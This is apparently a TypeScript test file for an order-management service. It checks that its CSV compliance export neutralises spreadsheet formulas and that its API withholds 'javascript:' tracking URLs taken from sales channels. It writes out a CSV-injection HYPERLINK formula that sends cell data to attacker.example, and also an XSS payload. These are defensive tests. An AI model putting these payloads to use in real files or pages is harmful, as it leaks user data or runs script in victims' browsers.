import type { NormalizedOrder } from '@order-hub/types';
import { parse } from 'csv-parse/sync';
import { anAccount, anOrder, insertOrders } from './support/order-fixtures';
import { startTestApp, type TestApp } from './support/test-app';
import { testDatabases } from './support/test-databases';
import { validTrackingNumber } from './support/tracking-numbers';

const DAY = 86_400_000;
const AS_OF = new Date('2026-11-20T00:00:00Z');
const FORMULA = '=HYPERLINK("http://attacker.example/?x="&A1,"Click")';

function shipped(sku: string, trackingUrl: string | null): NormalizedOrder {
  const base = anOrder();
  const shippedAt = new Date(AS_OF.getTime() - 3 * DAY);
  const orderedAt = new Date(shippedAt.getTime() - DAY);
  return {
    ...base,
    orderedAt,
    channelUpdatedAt: orderedAt,
    acknowledgedAt: orderedAt,
    shipBy: new Date(shippedAt.getTime() + DAY),
    status: 'SHIPPED',
    lines: [{ ...base.lines[0], sku, quantityShipped: 1, status: 'SHIPPED' }],
    shipments: [
      {
        carrier: 'UPS',
        service: null,
        trackingNumber: validTrackingNumber('UPS'),
        trackingUrl,
        shippedAt,
        packageType: 'PARCEL',
        weightOz: null,
        lengthIn: null,
        widthIn: null,
        heightIn: null,
        lines: [{ lineNumber: '1', quantity: 1 }],
      },
    ],
  };
}

describe.each(testDatabases())('channel data is stored unchecked on %s', (kind) => {
  let app: TestApp;
  beforeAll(async () => {
    app = await startTestApp(kind);
  });
  afterAll(() => app?.close());

  it('CSV exports put =HYPERLINK(...) from a SKU category into a cell: report.csv neutralises it', async () => {
    const account = await anAccount(app, 'AMAZON');
    const mapped = await app.gql(
      `mutation($id: ID!, $entries: [SkuCategoryInput!]!) { setSkuCategories(accountId: $id, entries: $entries) { set { sku } } }`,
      { id: account.id, entries: [{ sku: 'SKU-FORMULA', category: FORMULA }] },
    );
    expect(mapped.errors).toBeUndefined();
    await insertOrders(app, account, [shipped('SKU-FORMULA', null), shipped('SKU-FORMULA', null)]);

    const res = await fetch(
      `${app.baseUrl}/api/compliance/report.csv?channel=AMAZON&accountId=${account.id}&asOf=${AS_OF.toISOString()}`,
      { headers: { authorization: `Bearer ${app.adminToken}` } },
    );
    expect(res.status).toBe(200);
    const rows: string[][] = parse(await res.text());
    const categories = rows.slice(1).map((r) => r[1]);
    expect(categories).toContain(`'${FORMULA}`);
    // No cell of the export starts as a formula would.
    expect(rows.flat().filter((cell) => /^[=+@\t\r]/.test(cell))).toEqual([]);
  });

  it('a javascript: tracking URL from a channel is kept and served: a stored one is not served', async () => {
    const account = await anAccount(app, 'WALMART');
    const [bad, good] = await insertOrders(app, account, [
      shipped('SKU-URL', 'javascript:alert(document.domain)'),
      shipped('SKU-URL', 'https://www.ups.com/track?tracknum=1Z'),
    ]);
    const url = async (id: string) =>
      (await app.gql(`query($id: ID!) { order(id: $id) { shipments { trackingUrl } } }`, { id })).data!.order
        .shipments[0].trackingUrl;
    expect(await url(bad)).toBeNull();
    expect(await url(good)).toBe('https://www.ups.com/track?tracknum=1Z');
  });
});
